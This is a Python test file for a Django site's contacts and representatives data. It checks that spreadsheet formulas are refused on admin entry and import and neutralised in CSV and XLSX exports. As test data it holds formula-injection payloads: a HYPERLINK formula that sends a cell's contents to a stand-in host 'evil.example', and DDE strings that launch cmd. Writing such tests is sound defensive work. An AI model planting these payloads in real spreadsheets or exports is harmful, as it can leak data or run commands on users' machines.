"""Spreadsheet formulas never reach citizens (OWASP, «CSV Injection»).

Values staff type in admin or import go into the public contacts download and the exported
representatives' table. A value that a spreadsheet program would run as a formula is refused
where it comes in (admin, import) and neutralised where it goes out (every CSV and XLSX), so
that values already in the database are harmless too.
"""

import csv
import io
from http import HTTPStatus

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.formula import ArrayFormula

from regions.models import Region
from representatives.models import Representative

from .factories import make_representative, region_form
from .test_import_export import GOOD, contact, refused, run, snapshot, write_csv
from .test_representatives_admin import representative_form

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/x?"&B2,"Открыть реестр")'
DDE = "=cmd|' /C notepad'!A1"
PAYLOADS = [HYPERLINK, DDE, "@SUM(1+1)*cmd|' /C calc'!A0", "-1+1", "+1+1", "\t=1+1", "\r=1+1"]


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def assert_no_formula(workbook_bytes_or_path) -> list[list]:
    """Every cell of the first sheet, after checking none of them is a formula."""
    source = workbook_bytes_or_path
    if isinstance(source, bytes):
        source = io.BytesIO(source)
    sheet = load_workbook(source).worksheets[0]
    rows = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
        rows.append([cell.value for cell in row])
    return rows


def tomsk_by_title(rows: list[list]) -> dict:
    """Tomsk's row of a contacts download, by column title (columns with no data are left out)."""
    tomsk = next(row for row in rows if row[0] == "Томская область")
    return dict(zip(rows[0], tomsk, strict=True))


@pytest.fixture
def poisoned_region(regions):
    # As if written before the admin refused such values: bypasses validation.
    Region.objects.filter(slug="tomsk-oblast").update(
        tfoms_name=HYPERLINK,
        tfoms_address="@SUM(1+1)*cmd|' /C calc'!A0",
        health_name="-1+1",
        health_address="\t=1+1",
        tfoms_phone="+7 3822 12-34-56",
    )
    Region.objects.get(slug="tomsk-oblast").save()  # drops the cached region index
    return Region.objects.get(slug="tomsk-oblast")


def test_contacts_csv_neutralises_formulas(client, poisoned_region):
    rows = csv_rows(client.get("/files/contacts.csv").content)
    tomsk = tomsk_by_title(rows)
    assert tomsk["ТФОМС"] == "'" + HYPERLINK
    assert tomsk["Телефон ТФОМС"] == "'+7 3822 12-34-56"
    assert tomsk["Адрес ТФОМС"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert tomsk["Орган здравоохранения"] == "'-1+1"
    assert tomsk["Адрес органа здравоохранения"] == "'\t=1+1"
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]


def test_contacts_xlsx_writes_text_cells_as_text(client, poisoned_region):
    response = client.get("/files/contacts.xlsx")
    assert response.status_code == HTTPStatus.OK
    rows = assert_no_formula(response.content)
    tomsk = tomsk_by_title(rows)
    # Shown as typed, marked as text: Excel's quote prefix, no visible apostrophe.
    assert tomsk["ТФОМС"] == HYPERLINK
    assert tomsk["Телефон ТФОМС"] == "+7 3822 12-34-56"


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    "field", ["name", "name_in", "tfoms_name", "tfoms_address", "health_name", "health_address"]
)
def test_region_admin_refuses_formulas_in_names_and_addresses(
    admin_client, regions, field, payload
):
    region = regions.by_slug["tomsk-oblast"]
    response = admin_client.post(
        f"/admin/regions/region/{region.pk}/change/", region_form(region, **{field: payload})
    )
    assert response.status_code == HTTPStatus.OK
    assert "Значение не может начинаться со знаков =, +, -, @" in response.content.decode()
    assert getattr(Region.objects.get(pk=region.pk), field) != payload


@pytest.mark.parametrize("field", ["role", "person", "address"])
def test_representative_admin_refuses_formulas(admin_client, regions, field):
    representative = make_representative(regions.by_slug["perm-krai"])
    response = admin_client.post(
        f"/admin/representatives/representative/{representative.pk}/change/",
        representative_form(representative, **{field: HYPERLINK}),
    )
    assert response.status_code == HTTPStatus.OK
    assert "Значение не может начинаться со знаков =, +, -, @" in response.content.decode()
    assert getattr(Representative.objects.get(pk=representative.pk), field) != HYPERLINK


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("column", ["Должность", "ФИО", "Адрес офиса", "Примечание"])
def test_import_refuses_formulas_naming_row_and_column(tmp_path, regions, column, payload):
    before = snapshot()
    path = write_csv(tmp_path / "bad.csv", [*GOOD, contact(**{column: payload})])
    err = refused(path)
    assert f"Строка 5, столбец «{column}»: значение начинается со знака =, +, -, @" in err
    assert snapshot() == before


@pytest.mark.parametrize(
    ("cell", "column", "formula"),
    [
        ("D3", "Должность", DDE),
        # An array formula is read as an object, not as «=…»: refused all the same.
        ("J3", "Примечание", ArrayFormula("J3", HYPERLINK)),
    ],
)
def test_import_refuses_a_formula_cell_of_an_xlsx(tmp_path, regions, cell, column, formula):
    workbook = Workbook()
    sheet = workbook.active
    header = list(GOOD[0])
    assert header[ord(cell[0]) - ord("A")] == column
    sheet.append(header)
    sheet.append([GOOD[0][title] for title in header])
    sheet.append([contact(**{"Код контакта": "perm-9"})[title] for title in header])
    sheet[cell] = formula
    workbook.save(tmp_path / "bad.xlsx")
    assert f"Строка 3, столбец «{column}»: значение начинается" in refused(tmp_path / "bad.xlsx")
    assert not Representative.objects.exists()


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_export_neutralises_formulas_and_reads_back(tmp_path, regions, kind):
    perm = regions.by_slug["perm-krai"]
    make_representative(perm, code="perm-1", phones="+7 342 210-10-10")
    legacy = make_representative(perm, code="perm-2")
    Representative.objects.filter(pk=legacy.pk).update(role=DDE, notes="-1+1")
    path = tmp_path / f"export.{kind}"
    run("export_representatives", "-o", str(path))
    if kind == "csv":
        rows = csv_rows(path.read_bytes())
        assert [row[3] for row in rows[1:]] == ["Страховой представитель (тест)", "'" + DDE]
        assert rows[1][5] == "'+7 342 210-10-10"
    else:
        rows = assert_no_formula(path)
        assert rows[2][3] == DDE
    # Read back, the phone is a phone again, and the legacy formula is refused by name.
    err = refused(path)
    assert "Строка 3, столбец «Должность»: значение начинается" in err
    assert "Телефоны" not in err


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_notes_staff_may_write_in_admin_load_back_from_the_export(tmp_path, regions, kind):
    """Admin lets «Примечание» and «Электронная почта» start with «-» (a list in a note); the
    export marks such a value as text, and the import reads it back as the text it is."""
    notes = "- приём по записи\n- в субботу до 14:00"
    make_representative(regions.by_slug["perm-krai"], code="perm-1", notes=notes)
    make_representative(regions.by_slug["perm-krai"], code="perm-2", email="-info@example.ru")
    path = tmp_path / f"export.{kind}"
    run("export_representatives", "-o", str(path))
    out, _ = run("import_representatives", str(path), "--dry-run")
    assert "Без изменений: 2." in out
    out, _ = run("import_representatives", str(path))
    assert Representative.objects.get(code="perm-1").notes == notes
